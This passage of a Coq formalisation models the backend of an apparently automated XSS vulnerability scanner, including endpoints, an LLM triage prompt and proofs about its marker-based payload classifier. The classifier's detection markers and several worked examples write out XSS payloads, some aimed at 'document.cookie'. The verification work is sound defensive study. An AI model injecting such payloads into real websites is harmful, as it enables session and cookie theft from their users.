  match x.1 with
  | Ok a => Some a
  | Raise _ => None
  end.




(** The target answers 404 with an empty page. *)
Definition not_found_env : Env :=
  sample_env (Response 404 (Some "")) (λ _, true)
    (λ _ p, Some (match p with Gpt4 => "analysis" | Claude => "advice" end)).

(** The connection to the target is refused. *)
Definition unreachable_env : Env :=
  sample_env ConnectionError (λ _, true) (λ _ _, None).

(** ** A program logic for the monad *)

(** From a world satisfying [P], [m] returns in a world satisfying [Q] or
    raises in a world satisfying [E]. *)
Definition triple {A} (P : World → Prop) (m : M A)
    (Q : A → World → Prop) (E : Exn → World → Prop) : Prop :=
  ∀ w, P w →
    match m w with
    | (Ok a, w') => Q a w'
    | (Raise e, w') => E e w'
    end.

(** [m] keeps the invariant [G], whether it returns or raises, and returns
    values satisfying [Q]. *)
Definition keeps {A} (G : World → Prop) (m : M A) (Q : A → Prop) : Prop :=
  triple G m (λ a w, G w ∧ Q a) (λ _ w, G w).

(** From a world whose trace is [evs], [m] returns with the trace extended
    by [new] and cannot raise. *)
Definition emits {A} (m : M A) (new : list Event) : Prop :=
  ∀ evs, triple (λ w, events w = evs) m (λ _ w, events w = evs ++ new) (λ _ _, False).

(** Invariants that only speak of the result records and of the statuses
    written. *)
Definition stable (G : World → Prop) : Prop :=
  ∀ w w', db_scan_results w' = db_scan_results w →
          (∀ sid, status_history sid (events w') = status_history sid (events w)) →
          G w → G w'.

(** ** The other endpoints *)

(** What an endpoint hands to the framework when it does not return: an
    [HTTPException] it raised itself, or any other exception it let through. *)
Inductive EndpointExn :=
  | HTTPException (status_code : Z) (detail : string)
  | Uncaught (e : Exn).

Inductive Reply (A : Type) :=
  | Served (a : A)
  | Refused (e : EndpointExn).
Arguments Served {A} a.
Arguments Refused {A} e.

Definition Handler (A : Type) : Type := World → Reply A * World.

Definition serve {A} (a : A) : Handler A := λ w, (Served a, w).

Definition refuse {A} (e : EndpointExn) : Handler A := λ w, (Refused e, w).

(** A coroutine of the scan engine run inside an endpoint. *)
Definition from_M {A} (m : M A) : Handler A :=
  λ w, match m w with
       | (Ok a, w') => (Served a, w')
       | (Raise e, w') => (Refused (Uncaught e), w')
       end.

Definition bind_handler {A B} (m : Handler A) (f : A → Handler B) : Handler B :=
  λ w, match m w with
       | (Served a, w') => f a w'
       | (Refused e, w') => (Refused e, w')
       end.

(** [try: m  except Exception as e: h e]; an [HTTPException] is an
    [Exception] and is caught like the others. *)
Definition try_except_handler {A} (m : Handler A) (h : EndpointExn → Handler A)
    : Handler A :=
  λ w, match m w with
       | (Served a, w') => (Served a, w')
       | (Refused e, w') => h e w'
       end.

(** [class AITriageRequest(BaseModel)] *)
Record AITriageRequest := {
  vulnerability_ids : list string;
  context : option string;
}.

(** The dictionary [ai_triage_vulnerabilities] returns. *)
Record TriageResponse := {
  triage_analysis : string;
  vulnerability_count : Z;
  tr_session_id : string;
}.

(** The dictionary [get_dashboard_stats] returns, its [severity_distribution]
    flattened. *)
Record DashboardStats := {
  total_scans : Z;
  completed_scans : Z;
  ds_total_vulnerabilities : Z;
  sd_critical : Z;
  sd_high : Z;
  sd_medium : Z;
  sd_low : Z;
  recent_scans : list ScanResult;
}.

(** The first document of [vulnerabilities] with this [id]. *)
Fixpoint find_by_id (id : string) (l : list Vulnerability) : option Vulnerability :=
  match l with
  | [] => None
  | v :: l' => if String.eqb (v_id v) id then Some v else find_by_id id l'
  end.

(** Descending order of [created_at]. *)
Definition newer_first (a b : ScanRequest) : Prop :=
  (rq_created_at b ≤ rq_created_at a)%Z.

#[global] Instance newer_first_dec : RelDecision newer_first.
Proof. intros a b. unfold newer_first. apply _. Defined.

(** The store's order on a date field that may be null: null first. *)
Definition date_le (a b : option Z) : Prop :=
  match a, b with
  | None, _ => True
  | Some _, None => False
  | Some x, Some y => (x ≤ y)%Z
  end.

#[global] Instance date_le_dec : RelDecision date_le.
Proof. intros [x|] [y|]; simpl; apply _. Defined.

(** Descending order of [completed_at]. *)
Definition later_first (a b : ScanResult) : Prop :=
  date_le (completed_at b) (completed_at a).

#[global] Instance later_first_dec : RelDecision later_first.
Proof. intros a b. unfold later_first. apply _. Defined.

(** The prompt of the triage call. *)
Definition triage_prompt (vulnerabilities : list Vulnerability) (context : option string)
    : string :=
  let n := pretty (Z.of_nat (length vulnerabilities)) in
  block "        "
    [ "Perform triage analysis on these " +:+ n +:+ " XSS vulnerabilities:"; "";
      String.concat nl
        (map (λ v, "ID: " +:+ v_id v +:+ ", Type: " +:+ vulnerability_type v
                   +:+ ", Severity: " +:+ severity v +:+ ", Endpoint: " +:+ endpoint v
                   +:+ ", Parameter: " +:+ parameter v) vulnerabilities); "";
      "Context: " +:+ (match context with
                       | Some (String c rest) => String c rest
                       | Some EmptyString | None => "No additional context provided"
                       end); "";
      "Provide:";
      "1. Priority ranking (1-" +:+ n +:+ ")";
      "2. Recommended remediation order";
      "3. Business impact assessment";
      "4. Quick-win vs. long-term fixes"; "";
      "Format as JSON with vulnerability IDs and priority scores." ].

Section Endpoints.

Variable env : Env.

(** [get_scans]: the hundred newest requests, newest first. *)
Definition get_scans : Handler (list ScanRequest) :=
  λ w, if store_ok env (ticks w)
       then (Served (take 100 (merge_sort newer_first (db_scans w))), tick w)
       else (Refused (Uncaught StoreError), tick w).

(** [get_scan_result] *)
Definition get_scan_result (scan_id : string) : Handler ScanResult :=
  λ w, if store_ok env (ticks w)
       then match find_one scan_id (db_scan_results w) with
            | Some result => (Served result, tick w)
            | None => (Refused (HTTPException 404 "Scan result not found"), tick w)
            end
       else (Refused (Uncaught StoreError), tick w).

(** [db.vulnerabilities.find_one({"id": vuln_id})] *)
Definition find_vulnerability (vuln_id : string) : M (option Vulnerability) :=
  λ w, if store_ok env (ticks w)
       then (Ok (find_by_id vuln_id (db_vulnerabilities w)), tick w)
       else (Raise StoreError, tick w).

(** [ai_triage_vulnerabilities] *)
Definition ai_triage_vulnerabilities (request : AITriageRequest) : Handler TriageResponse :=
  try_except_handler
    (bind_handler
       (from_M
          (for_each (vulnerability_ids request) [] (λ vulnerabilities vuln_id,
             vuln <- find_vulnerability vuln_id ;;
             ret (match vuln with
                  | Some v => vulnerabilities ++ [v]
                  | None => vulnerabilities
                  end))))
       (λ vulnerabilities,
          match vulnerabilities with
          | [] => refuse (HTTPException 404 "No vulnerabilities found")
          | _ :: _ =>
              from_M
                (chat_id <- fresh_uuid env ;;
                 triage_response <-
                   ask env Gpt4 ("triage_" +:+ chat_id)
                     (triage_prompt vulnerabilities (context request)) ;;
                 reply_id <- fresh_uuid env ;;
                 ret {| triage_analysis := triage_response;
                        vulnerability_count := Z.of_nat (length vulnerabilities);
                        tr_session_id := "triage_" +:+ reply_id |})
          end))
    (λ _, refuse (HTTPException 500 "AI triage analysis failed")).

(** [count_documents] with a filter on one collection. *)
Definition count_documents {A} (collection : World → list A) (P : A → Prop)
    `{∀ x, Decision (P x)} : M Z :=
  λ w, if store_ok env (ticks w)
       then (Ok (Z.of_nat (length (filter P (collection w)))), tick w)
       else (Raise StoreError, tick w).

(** [find({"status": "completed"}).sort("completed_at", -1).limit(5).to_list(5)] *)
Definition recent_completed : M (list ScanResult) :=
  λ w, if store_ok env (ticks w)
       then (Ok (take 5 (merge_sort later_first
                           (filter (λ d, status d = "completed") (db_scan_results w)))),
             tick w)
       else (Raise StoreError, tick w).

(** [await op] in a handler: the handler is suspended, and the coroutines the
    event loop schedules meanwhile run before the store answers [op] and again
    before the handler is resumed with the answer.  [others n] is what they
    do to the world at the [n]-th such moment of the handler. *)
Definition await {A} (others : nat → World → World) (k : nat) (op : M A) : M A :=
  λ w, match op (others (2 * k) w) with
       | (r, w') => (r, others (2 * k + 1) w')
       end.

(** [get_dashboard_stats]: eight reads, each awaited on its own. *)
Definition get_dashboard_stats (others : nat → World → World) : Handler DashboardStats :=
  try_except_handler
    (from_M
       (total_scans <- await others 0 (count_documents db_scans (λ _, True)) ;;
        completed_scans <-
          await others 1 (count_documents db_scan_results (λ d, status d = "completed")) ;;
        total_vulnerabilities <-
          await others 2 (count_documents db_vulnerabilities (λ _, True)) ;;
        critical_count <-
          await others 3 (count_documents db_vulnerabilities (λ v, severity v = "critical")) ;;
        high_count <-
          await others 4 (count_documents db_vulnerabilities (λ v, severity v = "high")) ;;
        medium_count <-
          await others 5 (count_documents db_vulnerabilities (λ v, severity v = "medium")) ;;
        low_count <-
          await others 6 (count_documents db_vulnerabilities (λ v, severity v = "low")) ;;
        recent_scans <- await others 7 recent_completed ;;
        ret {| total_scans := total_scans;
               completed_scans := completed_scans;
               ds_total_vulnerabilities := total_vulnerabilities;
               sd_critical := critical_count;
               sd_high := high_count;
               sd_medium := medium_count;
               sd_low := low_count;
               recent_scans := recent_scans |}))
    (λ _, refuse (HTTPException 500 "Failed to get dashboard statistics")).

End Endpoints.

(** ** Notions for the further properties *)

(** A test whose payload the heuristic flags. *)
Definition flagged (e : Event) : Prop :=
  match e with
  | Tested _ _ p _ => is_vulnerable p = true
  | _ => False
  end.

#[global] Instance flagged_dec (e : Event) : Decision (flagged e).
Proof. destruct e; simpl; apply _. Defined.

(** The finding [v] is what [test_payload] returned for the test [e] of the
    scan [sid], with some fresh id and timestamp. *)
Definition produced_by (sid : string) (v : Vulnerability) (e : Event) : Prop :=
  match e with
  | Tested ep par p kind =>
      ∃ fresh_id now, test_payload fresh_id now sid ep par p kind = Some v
  | _ => False
  end.

(** The store collections of two worlds agree. *)
Definition same_store (w w' : World) : Prop :=
  db_scans w' = db_scans w
  ∧ db_scan_results w' = db_scan_results w
  ∧ db_vulnerabilities w' = db_vulnerabilities w.

(** A stored finding of a scan, after enrichment. *)
Definition enriched (v : Vulnerability) : Prop :=
  from_test_payload v
  ∧ is_Some (ai_summary v) ∧ is_Some (remediation_suggestion v)
  ∧ false_positive v = false
  ∧ vulnerability_type v ∈ ["XSS_form_input"; "XSS_url_parameter"].

(** A finding labelled by the priority chain. *)
Definition graded (v : Vulnerability) : Prop :=
  severity v ∈ ["critical"; "medium"; "high"].

(** What the coroutines of the program may have done to the store between
    two moments: requests and findings are only appended, the findings with a
    label of the priority chain.  The result records, the clock and the trace
    are not constrained. *)
Definition interference (w w' : World) : Prop :=
  (∃ added, db_scans w' = db_scans w ++ added)
  ∧ ∃ added, db_vulnerabilities w' = db_vulnerabilities w ++ added
             ∧ Forall graded added.

(** No other coroutine runs while the handler is suspended. *)
Definition alone : nat → World → World := λ _ w, w.

(** A schedule for the examples: the request of [demo_world] is submitted and
    scanned once more while the dashboard waits for its count of the critical
    findings. *)
Definition rescan_before_critical : nat → World → World :=
  λ n w, if Nat.eqb n 6 then (scan_lifecycle demo_env demo_request w).2 else w.

(** Invariants that only speak of the stored requests and findings. *)
Definition quiet (G : World → Prop) : Prop :=
  ∀ w w', db_scans w' = db_scans w →
          db_vulnerabilities w' = db_vulnerabilities w →
          G w → G w'.

(** The characters of a string. *)
Fixpoint chars (s : string) : list ascii :=
  match s with
  | EmptyString => []
  | String c s' => c :: chars s'
  end.

(** [c] is one of the letters a to z. *)
Definition is_lower_letter (c : ascii) : bool :=
  let n := N_of_ascii c in ((97 <=? n) && (n <=? 122))%N.

(** From [w] with the findings [vs], a scan step reaches [w'] with [vs']:
    the store is left alone, and the findings appended are, in order, what
    [test_payload] returned for the flagged tests recorded meanwhile. *)
Definition scanned (sid : string) (w : World) (vs : list Vulnerability)
    (w' : World) (vs' : list Vulnerability) : Prop :=
  same_store w w'
  ∧ ∃ new found,
      events w' = events w ++ new
      ∧ vs' = vs ++ found
      ∧ Forall2 (produced_by sid) found (filter flagged new).

(** A scan step that always returns. *)
Definition scans (sid : string) (f : list Vulnerability → M (list Vulnerability)) : Prop :=
  ∀ vs w, ∃ vs' w', f vs w = (Ok vs', w') ∧ scanned sid w vs w' vs'.


(** A finding of the scan [sid] as the scan step returns it. *)
Definition raw_finding (sid : string) (v : Vulnerability) : Prop :=
  from_test_payload v
  ∧ v_scan_id v = sid
  ∧ false_positive v = false
  ∧ vulnerability_type v ∈ ["XSS_form_input"; "XSS_url_parameter"].

(** The findings of the store are those of [w] followed by enriched findings
    of the scan [sid], and the stored requests are those of [w]. *)
Definition findings_grown (sid : string) (w w' : World) : Prop :=
  db_scans w' = db_scans w
  ∧ ∃ added, db_vulnerabilities w' = db_vulnerabilities w ++ added
             ∧ Forall (λ v, enriched v ∧ v_scan_id v = sid) added.

(** Invariants that only speak of the store and of the statuses written. *)
Definition framed (G : World → Prop) : Prop :=
  ∀ w w', same_store w w' →
          (∀ sid, status_history sid (events w') = status_history sid (events w)) →
          G w → G w'.

(** The scan [sid] has a record that is not completed, and the findings
    stored since the store held [before] are [added], all of this scan. *)
Definition open_scan (sid : string) (before added : list Vulnerability) (w : World) : Prop :=
  (∃ d, find_one sid (db_scan_results w) = Some d ∧ status d ≠ "completed")
  ∧ db_vulnerabilities w = before ++ added
  ∧ Forall (λ v, v_scan_id v = sid) added.

(** The record of the scan [sid] is completed, with the number of findings
    stored since the store held [before] as its total. *)
Definition closed_scan (sid : string) (before : list Vulnerability) (w : World) : Prop :=
  ∃ d added,
    find_one sid (db_scan_results w) = Some d
    ∧ status d = "completed"
    ∧ total_vulnerabilities d = Z.of_nat (length added)
    ∧ db_vulnerabilities w = before ++ added
    ∧ Forall (λ v, v_scan_id v = sid) added.

(** The scan [sid] has a record that is not completed, whatever it stored. *)
Definition still_open_scan (sid : string) (before : list Vulnerability) (w : World) : Prop :=
  ∃ added, open_scan sid before added w.

(** The result records end with a pending record of the scan [sid] that
    lookups by [sid] never reach, because one of the [n] records before it
    has the same scan id. *)
Definition shadowed (sid fresh_id : string) (n : nat) (w : World) : Prop :=
  ∃ front,
    db_scan_results w = front ++ [pending_result fresh_id sid]
    ∧ length front = n
    ∧ is_Some (find_one sid front).



Definition is_form_field (s : Surface) : bool :=
  match s with
  | FormField _ _ => true
  | UrlParam _ _ => false
  end.

(** * Properties *)

(** ** Strings *)

Module StrFacts.
Import Str.

Lemma app_nil (b : string) : "" +:+ b = b.
Proof. reflexivity. Qed.

Lemma app_cons (x : ascii) (a b : string) : String x a +:+ b = String x (a +:+ b).
Proof. reflexivity. Qed.

Lemma startswith_spec (p s : string) :
  startswith p s = true ↔ ∃ post, s = p +:+ post.
Proof.
  revert s. induction p as [|a p IH]; intros s; simpl.
  - split; [intros _; by exists s | done].
  - destruct s as [|b s].
    + split; [done | intros [post H]; discriminate].
    + destruct (Ascii.eqb_spec a b) as [->|Hne].
      * rewrite IH. split; intros [post H]; exists post;
          rewrite app_cons in *; congruence.
      * split; [done | intros [post H]; rewrite app_cons in H; congruence].
Qed.

Lemma str_in_spec (p s : string) : str_in p s = true ↔ contains s p.
Proof.
  unfold contains. induction s as [|b s IH]; simpl.
  - rewrite orb_false_r, startswith_spec. split.
    + intros [post H]. by exists EmptyString, post.
    + intros [[|x pre] [post H]]; [by exists post | discriminate].
  - rewrite orb_true_iff, IH, startswith_spec. split.
    + intros [[post H] | (pre & post & H)].
      * by exists EmptyString, post.
      * exists (String b pre), post. rewrite app_cons. by rewrite H.
    + intros ([|x pre] & post & H).
      * left. by exists post.
      * right. exists pre, post. rewrite app_cons in H. congruence.
Qed.

Lemma lower_app (a b : string) : lower (a +:+ b) = lower a +:+ lower b.
Proof.
  induction a as [|x a IH]; [done|].
  rewrite app_cons. simpl. rewrite app_cons. by f_equal.
Qed.

Lemma lower_split (s a b : string) :
  lower s = a +:+ b → ∃ a' b', s = a' +:+ b' ∧ lower a' = a ∧ lower b' = b.
Proof.
  revert s. induction a as [|x a IH]; intros s H.
  - by exists EmptyString, s.
  - rewrite app_cons in H.
    destruct s as [|y s]; simpl in H; [discriminate|].
    injection H as Hx Hs. destruct (IH _ Hs) as (a' & b' & -> & Ha & Hb).
    exists (String y a'), b'. rewrite app_cons. simpl. by rewrite Hx, Ha.
Qed.

(** Looking for a lower-case pattern in the lowered text is looking for
    the pattern up to case in the text. *)
Lemma str_in_lower (t s : string) :
  lower t = t → str_in t (lower s) = true ↔ contains_nocase s t.
Proof.
  intros Ht. rewrite str_in_spec. unfold contains_nocase, contains. split.
  - intros (pre & post & H).
    destruct (lower_split _ _ _ H) as (pre' & rest & -> & Hpre & Hrest).
    destruct (lower_split _ _ _ Hrest) as (u & post' & -> & Hu & Hpost).
    exists u. split; [congruence | by exists pre', post'].
  - intros (u & Hu & pre & post & ->).
    exists (lower pre), (lower post). rewrite !lower_app. congruence.
Qed.

Lemma split_nonempty (c : ascii) (s : string) : split c s ≠ [].
Proof.
  induction s as [|a s IH]; simpl; [done|].
  destruct (Ascii.eqb a c); [done|]. by destruct (split c s).
Qed.

End StrFacts.

(** ** The classifier *)

Lemma is_vulnerable_spec (payload : string) :
  is_vulnerable payload = true ↔ ∃ m, m ∈ markers ∧ Str.contains_nocase payload m.
Proof.
  unfold is_vulnerable. rewrite existsb_exists. split.
  - intros (m & Hin & H). exists m. apply list_elem_of_In in Hin. split; [done|].
    apply StrFacts.str_in_lower; [|done].
    unfold markers in Hin. set_unfold in Hin.
    destruct Hin as [->|[->|[->|[->|[]]]]]; reflexivity.
  - intros (m & Hin & H). exists m. split; [by apply list_elem_of_In|].
    apply StrFacts.str_in_lower; [|done].
    unfold markers in Hin. set_unfold in Hin.
    destruct Hin as [->|[->|[->|[->|[]]]]]; reflexivity.
Qed.

Lemma severity_of_cases (payload : string) :
  severity_of payload = "critical" ∨ severity_of payload = "medium"
  ∨ severity_of payload = "high".
Proof.
  unfold severity_of.
  destruct (_ || _); [by left|]. destruct (Str.str_in _ _); [right; by left | right; by right].
Qed.

Lemma test_payload_Some fresh_id now scan_id endpoint parameter payload0 vuln_type v :
  test_payload fresh_id now scan_id endpoint parameter payload0 vuln_type = Some v →
  is_vulnerable payload0 = true ∧ severity v = severity_of payload0 ∧ payload v = payload0
  ∧ v_scan_id v = scan_id.
Proof.
  unfold test_payload. destruct (is_vulnerable payload0); [|done].
  intros [= <-]. done.
Qed.

(** *** Case folding

    [str.lower], as the classifier uses it, identifies exactly the two forms
    of each letter. *)

Lemma lower_char_case_pair (a b : ascii) :
  (a, b) ∈ case_pairs → Str.lower_char a = b ∧ Str.lower_char b = b.
Proof.
  unfold case_pairs. simpl. intros H.
  repeat (apply elem_of_cons in H as [H | H];
          [injection H as -> ->; split; reflexivity|]).
  by apply elem_of_nil in H.
Qed.

Lemma lower_char_cases (a : ascii) :
  Str.lower_char a = a ∨ (a, Str.lower_char a) ∈ case_pairs.
Proof.
  destruct a as [[] [] [] [] [] [] [] []];
    first [ left; reflexivity
          | right; apply (bool_decide_unpack _); vm_compute; exact I ].
Qed.

Lemma case_pair_upper (a b x : ascii) :
  (a, x) ∈ case_pairs → (b, x) ∈ case_pairs → a = b.
Proof.
  assert (∀ c y, (c, y) ∈ case_pairs → c = ascii_of_N (N_of_ascii y - 32)) as Hup.
  { intros c y H. unfold case_pairs in H. simpl in H.
    repeat (apply elem_of_cons in H as [H | H];
            [injection H as -> ->; reflexivity|]).
    by apply elem_of_nil in H. }
  intros Ha Hb. by rewrite (Hup a x Ha), (Hup b x Hb).
Qed.

Lemma lower_char_same_letter (a b : ascii) :
  Str.lower_char a = Str.lower_char b ↔ same_letter a b.
Proof.
  split.
  - intros H. destruct (lower_char_cases a) as [Ha|Ha], (lower_char_cases b) as [Hb|Hb].
    + left. congruence.
    + right. right. rewrite <- H, Ha in Hb. exact Hb.
    + right. left. rewrite H, Hb in Ha. exact Ha.
    + left. rewrite H in Ha. by eapply case_pair_upper.
  - intros [->|[H|H]]; [done| |]; apply lower_char_case_pair in H as [H1 H2]; congruence.
Qed.

Lemma lower_same_text (u t : string) : Str.lower u = Str.lower t ↔ same_text u t.
Proof.
  revert t. induction u as [|a u IH]; intros [|b t]; simpl.
  - done.
  - split; [discriminate | done].
  - split; [discriminate | done].
  - rewrite <- IH, <- lower_char_same_letter. split.
    + intros H. injection H as H1 H2. done.
    + intros [H1 H2]. congruence.
Qed.

Lemma contains_ignoring_case_spec (s t : string) :
  contains_ignoring_case s t ↔ Str.contains_nocase s t.
Proof.
  unfold contains_ignoring_case, Str.contains_nocase.
  split; intros (u & Hu & Hs); exists u; (split; [|done]); by apply lower_same_text.
Qed.

(** C1: [test_payload] produces a Vulnerability exactly for the payloads that
    contain one of the four markers case-insensitively, that is, with each
    letter of the marker in either of its two forms; the severity of what it
    produces is critical when the payload contains "document.cookie" or
    "fetch(", otherwise medium when it contains "alert(", otherwise high. *)
Theorem test_payload_classification
    (fresh_id : string) (now : Z) (scan_id endpoint parameter payload0 vuln_type : string) :
  (is_Some (test_payload fresh_id now scan_id endpoint parameter payload0 vuln_type)
   ↔ ∃ m, m ∈ ["<script"; "onerror="; "onload="; "javascript:"]
          ∧ contains_ignoring_case payload0 m)
  ∧ ∀ v, test_payload fresh_id now scan_id endpoint parameter payload0 vuln_type = Some v →
      payload v = payload0
      ∧ (Str.contains payload0 "document.cookie" ∨ Str.contains payload0 "fetch("
         → severity v = "critical")
      ∧ (¬ (Str.contains payload0 "document.cookie" ∨ Str.contains payload0 "fetch(")
         → Str.contains payload0 "alert(" → severity v = "medium")
      ∧ (¬ (Str.contains payload0 "document.cookie" ∨ Str.contains payload0 "fetch(")
         → ¬ Str.contains payload0 "alert(" → severity v = "high").
Proof.
  split.
  - transitivity (is_vulnerable payload0 = true).
    + unfold test_payload. destruct (is_vulnerable payload0).
      * split; [done | intros _; by eexists].
      * split; [intros [? ?]; done | done].
    + rewrite is_vulnerable_spec. split; intros (m & Hm & H); exists m;
        (split; [done|]); by apply contains_ignoring_case_spec.
  - intros v Hv. apply test_payload_Some in Hv as (_ & -> & Hp & _).
    split; [done|]. unfold severity_of.
    rewrite <- !StrFacts.str_in_spec.
    destruct (Str.str_in "document.cookie" payload0), (Str.str_in "fetch(" payload0),
      (Str.str_in "alert(" payload0); simpl; intuition congruence.
Qed.

(** A marker is found in any mix of cases, and only as a run of the same
    letters. *)
Example marker_in_mixed_case :
  contains_ignoring_case "x<ScRiPt>" "<script"
  ∧ ¬ contains_ignoring_case "<scr1pt>" "<script".
Proof.
  split.
  - exists "<ScRiPt". split.
    + simpl. unfold same_letter.
      repeat split; first [ by left | right; left; apply (bool_decide_unpack _); by vm_compute ].
    + by exists "x", ">".
  - rewrite contains_ignoring_case_spec, <- StrFacts.str_in_lower by done.
    vm_compute. discriminate.
Qed.

(** The priority chain on payloads of the catalogs and on mixed ones. *)
Example classify_cookie_and_alert :
  severity <$> test_payload "id" 0 "s" "e" "p" "<script>alert(document.cookie)</script>" "form_input"
  = Some "critical".
Proof. reflexivity. Qed.

Example classify_upper_case_marker :
  severity <$> test_payload "id" 0 "s" "e" "p" "<IMG SRC=x ONERROR=alert(1)>" "form_input"
  = Some "medium".
Proof. reflexivity. Qed.

Example classify_no_marker :
  test_payload "id" 0 "s" "e" "p" "<details open ontoggle=alert('XSS')>" "form_input" = None.
Proof. reflexivity. Qed.

(** ** Rules of the program logic *)

Section Logic.

Context {A B : Type}.

Lemma triple_conseq (P P' : World → Prop) (m : M A) Q Q' E E' :
  triple P' m Q' E' →
  (∀ w, P w → P' w) → (∀ a w, Q' a w → Q a w) → (∀ e w, E' e w → E e w) →
  triple P m Q E.
Proof.
  intros Hm HP HQ HE w Hw. specialize (Hm w (HP w Hw)).
  destruct (m w) as [[a|e] w']; auto.
Qed.

Lemma triple_bind (P : World → Prop) (m : M A) (f : A → M B) Q R E :
  triple P m Q E → (∀ a, triple (Q a) (f a) R E) → triple P (bind m f) R E.
Proof.
  intros Hm Hf w Hw. unfold bind. specialize (Hm w Hw).
  destruct (m w) as [[a|e] w']; [by apply Hf | done].
Qed.

Lemma triple_try (P : World → Prop) (m : M A) (h : Exn → M A) Q E E' :
  triple P m Q E' → (∀ e, triple (E' e) (h e) Q E) → triple P (try_except m h) Q E.
Proof.
  intros Hm Hh w Hw. unfold try_except. specialize (Hm w Hw).
  destruct (m w) as [[a|e] w']; [done | by apply Hh].
Qed.

Lemma keeps_triple (G : World → Prop) (m : M A) (Q : A → Prop) R E :
  keeps G m Q → (∀ a w, G w → Q a → R a w) → (∀ e w, G w → E e w) →
  triple G m R E.
Proof.
  intros Hm HR HE. eapply triple_conseq; [exact Hm | done | |]; simpl.
  - intros a w [? ?]. by apply HR.
  - intros e w ?. by apply HE.
Qed.

Lemma keeps_ret (G : World → Prop) (a : A) (Q : A → Prop) : Q a → keeps G (ret a) Q.
Proof. intros Ha w Hw. by split. Qed.

Lemma keeps_raise (G : World → Prop) (e : Exn) (Q : A → Prop) :
  keeps G (raise e : M A) Q.
Proof. by intros w Hw. Qed.

Lemma keeps_lift (G : World → Prop) (r : Result A) (Q : A → Prop) :
  (∀ a, r = Ok a → Q a) → keeps G (lift r) Q.
Proof. intros Hr w Hw. unfold lift. destruct r; [split; auto | done]. Qed.

Lemma keeps_weaken (G : World → Prop) (m : M A) (Q Q' : A → Prop) :
  keeps G m Q → (∀ a, Q a → Q' a) → keeps G m Q'.
Proof.
  intros Hm HQ w Hw. specialize (Hm w Hw).
  destruct (m w) as [[a|e] w']; [destruct Hm; split; auto | done].
Qed.

Lemma keeps_bind (G : World → Prop) (m : M A) (f : A → M B) (Q : A → Prop) (R : B → Prop) :
  keeps G m Q → (∀ a, Q a → keeps G (f a) R) → keeps G (bind m f) R.
Proof.
  intros Hm Hf w Hw. unfold bind. specialize (Hm w Hw).
  destruct (m w) as [[a|e] w']; [|done].
  destruct Hm as [Hw' Ha]. by apply Hf.
Qed.

Lemma keeps_try (G : World → Prop) (m : M A) (h : Exn → M A) (Q : A → Prop) :
  keeps G m Q → (∀ e, keeps G (h e) Q) → keeps G (try_except m h) Q.
Proof.
  intros Hm Hh w Hw. unfold try_except. specialize (Hm w Hw).
  destruct (m w) as [[a|e] w']; [done | by apply Hh].
Qed.

(** A loop keeps [G] and establishes [I] of the whole list when each
    iteration extends [I] by the element it handles. *)
Lemma keeps_for_each (G : World → Prop) (I : list B → A → Prop)
    (body : A → B → M A) (l : list B) :
  (∀ pre x s, I pre s → keeps G (body s x) (I (pre ++ [x]))) →
  ∀ pre s, I pre s → keeps G (for_each l s body) (I (pre ++ l)).
Proof.
  intros Hbody. induction l as [|x l IH]; intros pre s Hs; simpl.
  - rewrite app_nil_r. by apply keeps_ret.
  - intros w Hw. unfold bind. pose proof (Hbody pre x s Hs w Hw) as Hx.
    destruct (body s x w) as [[s'|e] w']; [|done].
    destruct Hx as [Hw' Hs']. specialize (IH _ _ Hs' w' Hw').
    by rewrite <- app_assoc in IH.
Qed.

End Logic.

(** ** Steps that leave the result records and the status trace alone *)

Lemma status_history_app (sid : string) (l1 l2 : list Event) :
  status_history sid (l1 ++ l2) = status_history sid l1 ++ status_history sid l2.
Proof. apply omap_app. Qed.

Lemma status_history_persisted (sid st : string) (l : list Event) :
  status_history sid (l ++ [Persisted sid st]) = status_history sid l ++ [st].
Proof.
  rewrite status_history_app. f_equal. simpl. by rewrite String.eqb_refl.
Qed.

Section Frame.

Variable env : Env.
Variable G : World → Prop.
Hypothesis G_stable : stable G.

Ltac frame :=
  match goal with
  | H : G ?w |- G _ =>
      refine (G_stable w _ _ _ H); [reflexivity | intros; simpl; try reflexivity]
  end.

Lemma keeps_now : keeps G (now env) (λ _, True).
Proof. intros w Hw. simpl. split; [frame | done]. Qed.

Lemma keeps_fresh_uuid : keeps G (fresh_uuid env) (λ _, True).
Proof. intros w Hw. simpl. split; [frame | done]. Qed.

Lemma keeps_ask (p : Persona) (session_id prompt : string) :
  keeps G (ask env p session_id prompt) (λ _, True).
Proof.
  intros w Hw. unfold ask.
  destruct (llm env (ticks w) p session_id prompt); [split; [|done]|];
    frame; by rewrite status_history_app, app_nil_r.
Qed.

Lemma keeps_insert_scan (r : ScanRequest) : keeps G (insert_scan env r) (λ _, True).
Proof.
  intros w Hw. unfold insert_scan.
  destruct (store_ok env (ticks w)); [split; [|done]|]; frame.
Qed.

Lemma keeps_insert_vulnerability (v : Vulnerability) :
  keeps G (insert_vulnerability env v) (λ _, True).
Proof.
  intros w Hw. unfold insert_vulnerability.
  destruct (store_ok env (ticks w)); [split; [|done]|]; frame.
Qed.

Lemma keeps_get_scan_vulnerabilities (sid : string) :
  keeps G (get_scan_vulnerabilities env sid) (λ _, True).
Proof.
  intros w Hw. unfold get_scan_vulnerabilities.
  destruct (store_ok env (ticks w)); [split; [|done]|]; frame.
Qed.

Lemma keeps_fetch (url : string) : keeps G (fetch env url) (λ _, True).
Proof.
  unfold fetch. destruct (http_get env url) as [|code [content|]];
    auto using keeps_raise, keeps_ret.
Qed.

Lemma keeps_call_test_payload (scan_id ep par pl kind : string) :
  keeps G (call_test_payload env scan_id ep par pl kind)
    (λ o, ∀ v, o = Some v → from_test_payload v).
Proof.
  intros w Hw. unfold call_test_payload. split.
  - frame. by rewrite status_history_app, app_nil_r.
  - intros v Hv. apply test_payload_Some in Hv as (Hvul & Hsev & Hpl & _).
    unfold from_test_payload. by rewrite Hpl.
Qed.

Lemma keeps_test_all (scan_id ep par kind : string) (payloads : list string)
    (vs : list Vulnerability) :
  Forall from_test_payload vs →
  keeps G (test_all env scan_id ep par kind payloads vs) (Forall from_test_payload).
Proof.
  intros Hvs. unfold test_all.
  eapply keeps_weaken.
  - apply (keeps_for_each G (λ _ vs, Forall from_test_payload vs)) with (pre := []);
      [|exact Hvs].
    intros _ pl vs' Hvs'. eapply keeps_bind; [apply keeps_call_test_payload|].
    intros [v|] Hv; apply keeps_ret; [|done].
    apply Forall_app. split; [done|]. constructor; [by apply Hv | constructor].
  - done.
Qed.

Lemma keeps_test_forms (scan_id base_url : string) (forms : list Form)
    (payloads : list string) (vs : list Vulnerability) :
  Forall from_test_payload vs →
  keeps G (test_forms env scan_id base_url forms payloads vs) (Forall from_test_payload).
Proof.
